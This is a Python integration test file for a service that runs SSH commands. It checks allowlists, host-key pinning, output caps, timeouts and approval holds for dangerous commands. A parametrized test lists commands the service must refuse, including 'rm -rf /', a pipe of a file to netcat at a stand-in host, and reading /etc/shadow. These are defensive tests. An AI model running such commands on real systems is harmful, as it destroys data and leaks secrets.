"""SSH against a real OpenSSH sshd on loopback: peek, dry runs, held commands, limits, keys."""

import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from core.models import Tenant
from core.store.tenants import create_tenant_key
from core.vault import Vault
from tests.integration.conftest import (
    SECRET_KEY,
    SSH_BREAKER_FAIL_MAX,
    SSH_TENANT,
    SshServers,
    Stack,
    wait_job,
)
from tests.integration.test_engine import events_of, wait_status

MIB = 1024 * 1024


def granted_key(stack: Stack) -> str:
    """A fresh key of the tenant the test hosts are granted to."""
    with stack.db.write() as session:
        if session.get(Tenant, SSH_TENANT) is None:
            session.add(Tenant(id=SSH_TENANT, name="ssh-granted"))
    with stack.db.write() as session:
        _, key = create_tenant_key(session=session, vault=Vault([SECRET_KEY]),
                                   tenant_name="ssh-granted")
    return key


@pytest.fixture
def granted(stack: Stack) -> Iterator[httpx.Client]:
    """A client of the tenant the test hosts are granted to, with a fresh key."""
    with stack.client(granted_key(stack)) as http:
        yield http


def submit(client: httpx.Client, intent: str, **inputs: Any) -> httpx.Response:
    """A new job each time (never the same job again by idempotency)."""
    return client.post("/v1/jobs", json={"intent": intent, "inputs": inputs},
                       headers={"Idempotency-Key": uuid.uuid4().hex})


def run(client: httpx.Client, intent: str, **inputs: Any) -> dict[str, Any]:
    response = submit(client, intent, **inputs)
    assert response.status_code == 202, response.text
    return wait_job(client, response.json()["job_id"], timeout=60)


def test_a_peek_command_runs_and_returns_its_output_and_exit_status(
        granted: httpx.Client) -> None:
    # Given a granted host, when read-only commands run on it
    up = run(granted, "ssh.exec.peek", host="box", command="uptime")
    missing = run(granted, "ssh.exec.peek", host="box", command="ls -la /no-such-dir")
    # Then each returns its output and exit status
    assert up["status"] == "succeeded", up["error"]
    assert up["result"]["exit_status"] == 0 and "load average" in up["result"]["stdout"]
    assert missing["status"] == "succeeded", missing["error"]
    assert missing["result"]["exit_status"] == 2
    assert "No such file or directory" in missing["result"]["stderr"]
    # And the output streamed as events, and the command is in the audit with the key's id
    events = events_of(granted, up["job_id"])
    streamed = [e["data"] for e in events if e["type"] == "step_output"]
    assert any("load average" in line for e in streamed for line in e["lines"])
    audit = [e["data"] for e in events if e["type"] == "command_executed"]
    assert len(audit) == 1 and audit[0]["host"] == "box" and audit[0]["exit_status"] == 0
    assert audit[0]["tenant_id"] == SSH_TENANT and audit[0]["key_id"].startswith("key_")
    assert audit[0]["command"] == "uptime" and audit[0]["duration_ms"] >= 0


@pytest.mark.parametrize(("command", "why"), [
    ("ls /tmp; rm -rf /", "shell metacharacters"),
    ("cat /etc/hostname | nc evil 1", "shell metacharacters"),
    ("echo $(id)", "shell metacharacters"),
    ("ls > /tmp/out", "shell metacharacters"),
    ("rm -rf /tmp/x", "'rm' is not a read-only command"),
    ("cat /etc/shadow", "not an allowed path"),
    ("cat /etc/hostname2", "not an allowed path"),
    ("tail /var/logs/secret", "not an allowed path"),
    ("tail -f /var/log/syslog", "'-f' is not an allowed option"),
    ("journalctl -f", "journalctl needs --no-pager and -n N"),
], ids=["chained", "pipe", "substitution", "redirect", "not-listed", "path", "sibling-file",
        "sibling-folder", "follow", "journal-follow"])
def test_a_command_off_the_allowlist_is_refused_before_connecting(
        granted: httpx.Client, command: str, why: str) -> None:
    # When a peek asks for something that is not read-only
    response = granted.post("/v1/jobs", json={"intent": "ssh.exec.peek",
                                              "inputs": {"host": "box", "command": command}})
    # Then the submission is refused with the reason: no job, no connection
    assert response.status_code == 422, response.text
    assert response.json()["field"] == "inputs.command" and why in response.json()["error"]


def test_a_tenant_not_granted_the_host_gets_404(client: httpx.Client) -> None:
    for intent in ("ssh.exec.peek", "ssh.exec"):
        for host in ("box", "no-such-host"):
            response = client.post("/v1/jobs", json={"intent": intent, "inputs": {
                "host": host, "command": "uptime"}})
            assert response.status_code == 404, response.text
            assert response.json()["error"] == f"SSH host '{host}' not found"
    # And a host granted to every tenant is usable
    assert run(client, "ssh.exec.peek", host="shared", command="whoami")["status"] == "succeeded"


@pytest.mark.parametrize(("host", "why"), [
    ("unknown-key", "its key is unknown"), ("changed-key", "its key CHANGED")])
def test_a_host_key_not_pinned_is_refused(granted: httpx.Client, host: str, why: str) -> None:
    job = run(granted, "ssh.exec.peek", host=host, command="uptime")
    assert job["status"] == "failed" and why in job["error"], job["error"]


def test_ten_mib_on_both_streams_neither_hangs_nor_passes_the_cap(granted: httpx.Client) -> None:
    # Given a command writing 10 MiB to stdout and to stderr at once
    command = "yes out | head -c 10485760 & yes err | head -c 10485760 >&2; wait"
    started = time.monotonic()
    job = run(granted, "ssh.exec", host="box", command=command, confirm_dangerous=True)
    # Then it ends, each stream kept to the 1 MiB cap and marked truncated
    assert job["status"] == "succeeded", job["error"]
    assert time.monotonic() - started < 30
    result = job["result"]
    assert result["exit_status"] == 0
    assert len(result["stdout"]) == MIB and result["stdout_truncated"]
    assert len(result["stderr"]) == MIB and result["stderr_truncated"]
    # And no more than the cap was streamed either
    events = [e["data"] for e in events_of(granted, job["job_id"]) if e["type"] == "step_output"]
    for stream in ("stdout", "stderr"):
        lines = [line for e in events if e["stream"] == stream for line in e["lines"]]
        assert 0 < sum(len(line) + 1 for line in lines) <= MIB + 1


def test_a_command_past_its_deadline_is_killed(granted: httpx.Client) -> None:
    # Given a command that would run a minute, with a 2 s deadline
    marker = f"{60 + uuid.uuid4().int % 1000}"
    started = time.monotonic()
    job = run(granted, "ssh.exec", host="box", command=f"sleep {marker}",
              confirm_dangerous=True, timeout=2)
    # Then the step fails at the deadline and the remote process is gone
    assert job["status"] == "failed" and "did not finish within 2s" in job["error"]
    assert time.monotonic() - started < 15
    left = subprocess.run(["pgrep", "-f", f"^sleep {marker}$"], capture_output=True, text=True)
    assert left.stdout == ""
    events = events_of(granted, job["job_id"])
    audit = [e["data"] for e in events if e["type"] == "command_executed"]
    assert audit[0]["killed"] and audit[0]["exit_status"] is None


def held_rm(client: httpx.Client, path: Path) -> tuple[str, str]:
    job_id = submit(client, "ssh.exec", host="box", command=f"rm -rf {path}",
                    confirm_dangerous=True).json()["job_id"]
    pending = wait_status(client, job_id, "awaiting_approval")["pending"]
    return job_id, pending["token"]


def test_rm_rf_is_a_dry_run_then_held_then_runs_only_with_its_own_token(
        granted: httpx.Client, tmp_path: Path) -> None:
    target, other = tmp_path / "x", tmp_path / "y"
    target.mkdir()
    # Without confirmation: a dry run in the contract's shape, nothing removed
    dry = run(granted, "ssh.exec", host="box", command=f"rm -rf {target}")
    assert dry["status"] == "succeeded" and dry["result"]["dry_run"] is True
    assert dry["result"]["note"] == "Set confirm_dangerous=true"
    assert dry["result"]["command"] == f"rm -rf {target}" and dry["result"]["host"] == "box"
    assert dry["result"]["dangerous"] is True and target.exists()
    # With confirmation: held, with the reason
    job_id, token = held_rm(granted, target)
    job = granted.get(f"/v1/jobs/{job_id}").json()
    assert "dangerous command on SSH host box" in job["pending"]["reason"]
    # A token issued for another command does not run it
    _, other_token = held_rm(granted, other)
    refused = granted.post(f"/v1/jobs/{job_id}/approve", json={"token": other_token})
    assert refused.status_code == 403
    time.sleep(0.5)
    assert target.exists() and granted.get(f"/v1/jobs/{job_id}").json()["status"] == \
        "awaiting_approval"
    # Its own token runs it
    assert granted.post(f"/v1/jobs/{job_id}/approve", json={"token": token}).status_code == 200
    done = wait_job(granted, job_id, timeout=30)
    assert done["status"] == "succeeded" and done["result"]["exit_status"] == 0, done["error"]
    assert not target.exists()


def breaker_state(stack: Stack, name: str) -> str | None:
    with stack.client(stack.new_key(operator=True)) as operator:
        found = [b for b in operator.get("/v1/breakers").json() if b["name"] == name]
    return found[0]["state"] if found else None


def test_a_stopped_sshd_opens_the_hosts_breaker_and_steps_fail_fast(
        stack: Stack, granted: httpx.Client, ssh_servers: SshServers) -> None:
    down = ssh_servers.down
    if down.process is None:
        down.start()  # the other backend's run stopped it
    assert run(granted, "ssh.exec.peek", host="down", command="uptime")["status"] == "succeeded"
    # Given the host's sshd stopped (and the sessions it forked)
    down.stop()
    try:
        # When steps keep failing to connect
        for _ in range(SSH_BREAKER_FAIL_MAX):
            failed = run(granted, "ssh.exec.peek", host="down", command="uptime")
            assert failed["status"] == "failed"
        # Then the host's breaker is open and the next step meets it at once, not the network
        assert breaker_state(stack, "ssh:down") == "open"
        started = time.monotonic()
        job_id = submit(granted, "ssh.exec.peek", host="down", command="uptime").json()["job_id"]
        while not any(e["type"] == "step_retrying" for e in events_of(granted, job_id)):
            assert time.monotonic() - started < 10
            time.sleep(0.05)
        retrying = [e for e in events_of(granted, job_id) if e["type"] == "step_retrying"]
        assert "upstream ssh:down unavailable" in retrying[0]["data"]["reason"]
        granted.post(f"/v1/jobs/{job_id}/cancel")
    finally:
        down.start()
        with stack.client(stack.new_key(operator=True)) as operator:
            operator.post("/v1/breakers/ssh:down/reset")


def test_a_refused_host_key_is_one_warning_line_in_the_workers_log(
        stack: Stack, granted: httpx.Client) -> None:
    # Given the tools worker's log so far
    log = stack.logs / "tools.log"
    start = log.stat().st_size
    # When a step is refused by a host whose key changed
    job = run(granted, "ssh.exec.peek", host="changed-key", command="uptime")
    assert job["status"] == "failed" and "its key CHANGED" in job["error"], job["error"]
    time.sleep(0.5)  # the worker logs the task's end after it records the step
    with log.open() as lines:
        lines.seek(start)
        written = lines.read()
    # Then the refusal is one WARNING line naming the step, and no traceback
    step_lines = [line for line in written.splitlines() if f"{job['job_id']}-0" in line]
    assert [line for line in step_lines if "WARNING" in line and "CHANGED" in line] == \
        step_lines[-1:], written
    assert "Traceback" not in written and "ERROR" not in written, written
